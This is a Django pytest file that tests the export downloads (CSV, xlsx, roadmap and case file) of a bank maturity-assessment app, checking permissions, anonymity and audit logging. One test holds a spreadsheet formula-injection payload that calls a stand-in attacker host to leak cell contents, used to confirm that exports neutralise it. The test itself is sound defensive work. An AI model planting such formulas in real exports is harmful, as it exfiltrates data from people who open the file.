import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from assessments.exchange import out_case
from assessments.models import (
    ActionStatus,
    AdoptedAction,
    Assessment,
    AssessmentStatus,
    Engagement,
    EngagementScope,
    EngagementState,
    Event,
    Organisation,
    SavedAnswer,
    SheetStatus,
    Snapshot,
    Visibility,
)
from assessments.plans import services as plans
from assessments.results import queries, services
from maturity import assess, codec, load_framework, read_case
from maturity.__main__ import main
from tests import factories
from tests.conftest import Cast
from tests.exchange.rounds import body, closed, csv_rows, fetch, parts
from tests.maturity.goldens import golden_pairs

pytestmark = pytest.mark.django_db

FILES = ("round_xlsx", "case_export", "roadmap_docx")


@pytest.fixture
def round_(cast: Cast) -> Assessment:
    return closed(cast)


@pytest.fixture
def lead(cast: Cast) -> Client:
    return signed_in(cast.lead)


def signed_in(person: Any) -> Client:
    client = Client()
    client.force_login(person)
    return client


def csv_url(round_: Assessment, name: str) -> str:
    return reverse("round_csv", args=[round_.pk, name])


TABLES = ("scores", "placement", "quarters", "plan", "answers")  # of a round without regions


def every_url(round_: Assessment) -> list[str]:
    return [
        *(csv_url(round_, name) for name in TABLES),
        *(reverse(name, args=[round_.pk]) for name in FILES),
    ]


def narrow(cast: Cast, scope: EngagementScope) -> None:
    Engagement.objects.filter(pk=cast.engagement.pk).update(scope=scope)


def links(client: Client, round_: Assessment) -> set[str]:
    page = client.get(reverse("take_away", args=[round_.pk])).content.decode()
    return {url for url in every_url(round_) if f'href="{url}"' in page}


# ---- the page ----------------------------------------------------------------------------------


def test_the_page_offers_every_file_and_each_can_be_taken(lead: Client, round_: Assessment) -> None:
    page = lead.get(reverse("take_away", args=[round_.pk])).content.decode()

    assert links(lead, round_) == set(every_url(round_))
    assert f'action="{reverse("report_request", args=[round_.pk])}"' in page
    for url in every_url(round_):
        response = lead.get(url)
        assert (url, response.status_code) == (url, 200)
        assert response.headers["Content-Disposition"].startswith(
            'attachment; filename="Norvane-Bank-2026-H2-'
        )
        assert len(body(response)) > 100


def test_a_consultant_without_answers_is_told_why_two_files_are_not_offered(
    cast: Cast, round_: Assessment
) -> None:
    narrow(cast, EngagementScope.RESULTS)
    consultant = signed_in(cast.consultant)
    single = {csv_url(round_, "answers"), reverse("case_export", args=[round_.pk])}

    page = consultant.get(reverse("take_away", args=[round_.pk])).content.decode()

    assert links(consultant, round_) == set(every_url(round_)) - single
    assert page.count("results without single answers") == 2
    assert {consultant.get(url).status_code for url in single} == {403}
    sheets = openpyxl.load_workbook(
        io.BytesIO(fetch(consultant, reverse("round_xlsx", args=[round_.pk])))
    ).sheetnames
    assert sheets == ["Scores", "Placement", "Quarters", "Plan", "About the columns"]


def test_before_there_are_results_nothing_is_offered(cast: Cast, lead: Client) -> None:
    round_ = factories.make_round(cast.bank)
    factories.make_sheet(round_, cast.lead)

    assert lead.get(reverse("take_away", args=[round_.pk])).status_code == 200
    assert links(lead, round_) == set()
    for url in every_url(round_):
        response = lead.get(url)
        assert (url, response.status_code) == (url, 302)
        assert response.headers["Location"] == reverse("take_away", args=[round_.pk])
    assert not Event.objects.filter(verb__endswith="exported").exists()


def test_a_table_that_does_not_exist_is_not_found(lead: Client, round_: Assessment) -> None:
    assert lead.get(csv_url(round_, "people")).status_code == 404


def test_while_the_bank_is_leaving_only_reports_are_offered(
    cast: Cast, lead: Client, round_: Assessment
) -> None:
    Organisation.objects.filter(pk=cast.bank.pk).update(closing_on=timezone.now().date())

    assert links(lead, round_) == {reverse("roadmap_docx", args=[round_.pk])}
    assert lead.get(csv_url(round_, "scores")).status_code == 403


# ---- who may -----------------------------------------------------------------------------------


def test_S11_reading_results_alone_exports_nothing(cast: Cast, round_: Assessment) -> None:
    Assessment.objects.update(shared_with_respondents=True)
    for person in (cast.respondent, cast.reviewer):
        client = signed_in(person)
        found = {client.get(url).status_code for url in every_url(round_)}
        assert found == {403}
        assert client.get(reverse("take_away", args=[round_.pk])).status_code == 403
    assert signed_in(cast.respondent).get(reverse("results", args=[round_.pk])).status_code == 200


def test_S10_a_revoked_engagement_ends_every_download(cast: Cast, round_: Assessment) -> None:
    consultant = signed_in(cast.consultant)
    assert all(fetch(consultant, url) for url in every_url(round_))

    Engagement.objects.update(state=EngagementState.ENDED)

    assert {consultant.get(url).status_code for url in every_url(round_)} == {404}


def test_S4_no_file_of_one_bank_holds_a_word_of_another(
    cast: Cast, lead: Client, round_: Assessment
) -> None:
    canary = "Kanarie77"
    Organisation.objects.filter(pk=cast.other_bank.pk).update(name=f"{canary} Bank")
    other = factories.make_round(
        cast.other_bank, period=f"{canary} H1", status=AssessmentStatus.CLOSED
    )
    sheet = factories.make_sheet(other, cast.outsider, status=SheetStatus.SUBMITTED)
    factories.fill_sheet(sheet, factories.whole_sheet(5))
    SavedAnswer.objects.filter(sheet=sheet).update(note=canary)

    for url in every_url(round_):
        found = fetch(lead, url)
        texts = parts(found) if found[:2] == b"PK" else {"": found.decode()}
        assert [name for name, text in texts.items() if canary in text] == []


def test_every_download_leaves_an_event_that_names_the_file_and_no_content(
    cast: Cast, lead: Client, round_: Assessment
) -> None:
    for url in every_url(round_):
        fetch(lead, url)

    events = Event.objects.filter(verb__endswith="exported").order_by("pk")
    assert [(event.verb, event.details) for event in events] == [
        *(("data exported", {"table": name, "form": "csv"}) for name in TABLES),
        ("data exported", {"form": "xlsx", "answers": True}),
        ("case exported", {}),
        ("roadmap exported", {"language": "en"}),
    ]
    assert {(event.actor, event.target) for event in events} == {
        (cast.lead.pk, f"assessment:{round_.pk}")
    }


def test_queries_do_not_grow_with_respondents(cast: Cast, lead: Client) -> None:
    counts = []
    for people in (2, 9):
        found = closed(cast, people=people, period=f"{people} people")
        lead.get(reverse("take_away", args=[found.pk]))
        with CaptureQueriesContext(
            connection,
        ) as captured:
            for url in every_url(found):
                body(lead.get(url))
        counts.append(len(captured))
    assert counts[0] == counts[1]


# ---- answers -----------------------------------------------------------------------------------


def test_answers_stand_by_function_with_what_was_written_beside_them(
    lead: Client, round_: Assessment
) -> None:
    SavedAnswer.objects.filter(item="TEC.A2", special="NA").update(reason="No such system")
    SavedAnswer.objects.filter(item="CAP.A1", level=5).update(
        note="As agreed in May", link="https://wiki.example/a", evidence="E1"
    )

    rows = csv_rows(lead, csv_url(round_, "answers"))

    assert len(rows) == 4 * len(load_framework().items)
    of_first = [row for row in rows if row["question"] == "CAP.A1"]
    assert sorted((row["respondent"], row["level"]) for row in of_first) in (
        [("Executive", "5"), ("IT 1", "2"), ("IT 2", "4"), ("Risk", "1")],
        [("Executive", "5"), ("IT 1", "4"), ("IT 2", "2"), ("Risk", "1")],
    )
    written = next(row for row in of_first if row["note"])
    assert (written["note"], written["link"], written["claim"]) == (
        "As agreed in May",
        "https://wiki.example/a",
        "E1",
    )
    assert [row["answer"] for row in rows if row["reason"] == "No such system"] == [
        "not applicable"
    ]
    assert [row["answer"] for row in rows if row["question"] == "TEC.U1"].count("don’t know") == 1


def test_S31_a_note_that_begins_like_a_formula_stays_text(lead: Client, round_: Assessment) -> None:
    attack = '=HYPERLINK("https://evil.example/?x="&A1)'
    SavedAnswer.objects.filter(item="CAP.A1", level=5).update(note=attack)

    rows = csv_rows(lead, csv_url(round_, "answers"))
    assert [row["note"] for row in rows if row["note"]] == [f"'{attack}"]

    raw = fetch(lead, reverse("round_xlsx", args=[round_.pk]))
    book = openpyxl.load_workbook(io.BytesIO(raw))
    cells = [cell for line in book["Answers"] for cell in line if cell.value == attack]
    assert [(cell.data_type, cell.quotePrefix) for cell in cells] == [("s", True)]
    assert not [name for name, text in parts(raw).items() if "<f>" in text]


@pytest.mark.parametrize("person", ["lead", "consultant"])
def test_an_anonymous_round_gives_nobody_single_answers(cast: Cast, person: str) -> None:
    round_ = closed(cast, visibility=Visibility.ANONYMOUS)
    client = signed_in(getattr(cast, person))
    withheld = {csv_url(round_, "answers"), reverse("case_export", args=[round_.pk])}

    assert links(client, round_) == set(every_url(round_)) - withheld
    for url in withheld:
        response = client.get(url, follow=True)
        assert response.redirect_chain == [(reverse("take_away", args=[round_.pk]), 302)]
        assert response.content.decode().count("this round is anonymous") == 2
    book = openpyxl.load_workbook(
        io.BytesIO(fetch(client, reverse("round_xlsx", args=[round_.pk])))
    )
    assert "Answers" not in book.sheetnames


def test_in_an_anonymous_round_questions_that_few_rated_have_no_figures(
    cast: Cast, lead: Client
) -> None:
    round_ = closed(cast, visibility=Visibility.ANONYMOUS)
    SavedAnswer.objects.filter(item="DAT.A1").exclude(sheet__respondent=cast.lead).update(
        level=None, special="DK"
    )

    rows = {row["id"]: row for row in csv_rows(lead, csv_url(round_, "scores"))}

    assert rows["DAT.A1"]["state"] == "too few to show"
    # Nor the others of its facet, from which it could be told.
    facet = [item.id for item in load_framework().facets["DAT", "A"]]
    assert [(rows[id_]["score"], rows[id_]["level"], rows[id_]["ratings"]) for id_ in facet] == [
        ("", "", "")
    ] * len(facet)
    assert rows["DAT.A"]["score"]
    assert rows["DAT.U1"]["score"] == "50.0"


def test_a_consultant_gets_no_answers_from_before_the_engagement_and_no_case(cast: Cast) -> None:
    round_ = closed(cast)
    Engagement.objects.update(answers_from=timezone.now())
    consultant = signed_in(cast.consultant)

    rows = csv_rows(consultant, csv_url(round_, "answers"))
    assert {(row["answer"], row["level"], row["note"]) for row in rows} == {("not shown", "", "")}

    case = reverse("case_export", args=[round_.pk])
    assert case not in links(consultant, round_)
    response = consultant.get(case, follow=True)
    assert "before your firm’s engagement began" in response.content.decode()


# ---- scores, quarters and plan -----------------------------------------------------------------


def test_scores_are_the_findings(cast: Cast, lead: Client) -> None:
    pair = golden_pairs()["case-3-gated"]
    round_ = factories.publish_case(cast.bank, pair["case"], period="2026 H2")
    findings = codec.dump(assess(load_framework(), read_case(pair["case"])))

    rows = {row["id"]: row for row in csv_rows(lead, csv_url(round_, "scores"))}

    def figures(id_: str, *names: str) -> list[float]:
        return [round(float(rows[id_][name]), 2) for name in names]

    bank = findings["bank"]
    assert figures("bank", "score") == [round(bank["effective"], 2)]
    assert figures("bank_raw", "score", "low", "high", "lowest", "highest") == [
        round(value, 2) for value in (bank["raw"], *bank["ci90"], *bank["bounds"])
    ]
    assert figures("customer", "score") == [round(findings["customer"]["score"], 2)]
    for id_, dimension in bank["dimensions"].items():
        assert figures(id_, "score", "lowest", "highest") == [
            round(dimension[name], 2) for name in ("score", "low", "high")
        ]
        assert figures(f"{id_}.A", "score") == [round(dimension["awareness"], 2)]
        assert float(rows[id_]["low"]) <= dimension["score"] <= float(rows[id_]["high"])
    rated = {id_: item for id_, item in findings["items"].items() if item["kind"] == "rated"}
    assert {id_: float(rows[id_]["level"]) for id_ in rated} == {
        id_: round(item["level"], 4) for id_, item in rated.items()
    }
    assert len(rows) == 6 + 7 + 14 + len(load_framework().items)


def test_quarters_and_placement_are_the_findings(cast: Cast, lead: Client) -> None:
    pair = golden_pairs()["case-1-step-by-step"]
    round_ = factories.publish_case(cast.bank, pair["case"], period="2026 H2")

    quarters = csv_rows(lead, csv_url(round_, "quarters"))
    trajectory = pair["findings"]["roadmap"]["trajectory"]
    assert [round(float(row["bank"]), 2) for row in quarters] == [
        round(row["bank"], 2) for row in trajectory
    ]
    assert [row["name"] for row in quarters][:2] == ["now", "2027 Q1"]

    shares = pair["findings"]["placement"]["probabilities"]
    placement = csv_rows(lead, csv_url(round_, "placement"))
    assert {row["strategy"]: round(float(row["probability"]), 3) for row in placement} == {
        id_: round(share, 3) for id_, share in shares.items()
    }
    assert [row["placed"] for row in placement] == ["TRUE", "FALSE", "FALSE", "FALSE"]


def test_regions_are_a_table_of_their_own_where_they_were_estimated_apart(
    cast: Cast, lead: Client
) -> None:
    pairs = golden_pairs()
    round_ = factories.publish_case(cast.bank, pairs["case-1-step-by-step"]["case"], period="P")
    assert csv_url(round_, "regions") not in take_away(lead, round_)
    response = lead.get(csv_url(round_, "regions"))
    assert response.headers["Location"] == reverse("take_away", args=[round_.pk])

    ahead = assess(load_framework(), read_case(pairs["case-2-raise-awareness"]["case"]))
    Snapshot.objects.filter(assessment=round_).update(
        regions={"North": codec.dump(ahead)}, published_at=timezone.now()
    )

    assert csv_url(round_, "regions") in take_away(lead, round_)
    (row,) = csv_rows(lead, csv_url(round_, "regions"))
    assert (row["region"], row["strategy"]) == ("North", "awareness")
    assert float(row["customer"]) == round(codec.dump(ahead)["customer"]["score"], 4)
    assert float(row["low"]) < float(row["customer"]) < float(row["high"])


def take_away(client: Client, round_: Assessment) -> str:
    return client.get(reverse("take_away", args=[round_.pk])).content.decode()


def test_the_plan_tells_how_each_adopted_action_stands(cast: Cast, lead: Client) -> None:
    pair = golden_pairs()["case-3-gated"]
    round_ = factories.publish_case(cast.bank, pair["case"], period="2026 H2")
    before = csv_rows(lead, csv_url(round_, "plan"))
    assert {row["adopted"] for row in before} == {""}
    steps = [step["action"] for step in pair["findings"]["roadmap"]["plan"]]
    assert [row["action"] for row in before] == steps

    adopt(round_, cast, steps)
    rows = {row["action"]: row for row in csv_rows(lead, csv_url(round_, "plan"))}

    first = rows[steps[0]]
    assert (first["adopted"], first["status"], first["owner"], first["due_on"]) == (
        "TRUE",
        "Started",
        "Lena Lead",
        "2027-03-31",
    )
    assert rows[steps[-1]]["adopted"] == "FALSE"


def adopt(round_: Assessment, cast: Cast, steps: list[str]) -> None:
    """Adopt the roadmap without its last action, and start the first."""
    plan = plans.adopt(
        assessment=round_,
        actions=steps[:-1],
        first_quarter_on=date(2027, 1, 1),
        by=cast.lead,
        now=timezone.now(),
    )
    AdoptedAction.objects.filter(plan=plan, action=steps[0]).update(
        owner=cast.lead, status=ActionStatus.STARTED
    )


# ---- the case file -----------------------------------------------------------------------------


def test_a_case_file_gives_the_command_line_the_identical_findings(
    lead: Client, round_: Assessment, tmp_path: Path, capsysbinary: Any
) -> None:
    result = queries.result_for(round_, timezone.now())
    assert result is not None
    file = tmp_path / "case.json"
    file.write_bytes(fetch(lead, reverse("case_export", args=[round_.pk])))

    assert main(["assess", str(file)]) == 0

    printed = capsysbinary.readouterr().out
    wanted = json.dumps(codec.dump(result.findings), indent=1, allow_nan=False) + "\n"
    assert printed == wanted.encode()


def test_a_published_round_s_case_file_gives_the_frozen_findings(
    cast: Cast, lead: Client, round_: Assessment
) -> None:
    snapshot = services.publish(assessment=round_, by=cast.lead, now=timezone.now())

    text = fetch(lead, reverse("case_export", args=[round_.pk])).decode()

    frozen = {name: value for name, value in snapshot.findings.items() if name != "beside"}
    assert codec.dump(assess(load_framework(), read_case(json.loads(text)))) == frozen


def test_no_case_depends_on_the_order_of_its_respondents() -> None:
    framework = load_framework()
    for name, pair in golden_pairs().items():
        case = read_case(pair["case"])
        exported = read_case(json.loads(out_case.text(case)))
        first, second = (json.dumps(codec.dump(assess(framework, c))) for c in (case, exported))
        assert (name, first) == (name, second)


def test_a_case_file_holds_neither_names_nor_notes_nor_the_order_of_asking(
    cast: Cast, lead: Client, round_: Assessment
) -> None:
    SavedAnswer.objects.update(note="Between ourselves", link="https://wiki.example/a")

    text = fetch(lead, reverse("case_export", args=[round_.pk])).decode()

    assert [word for word in ("Lena", "Nora", "ourselves", "wiki", "@") if word in text] == []
    people = json.loads(text)["respondents"]
    assert people == sorted(people, key=lambda person: json.dumps(person, sort_keys=True))
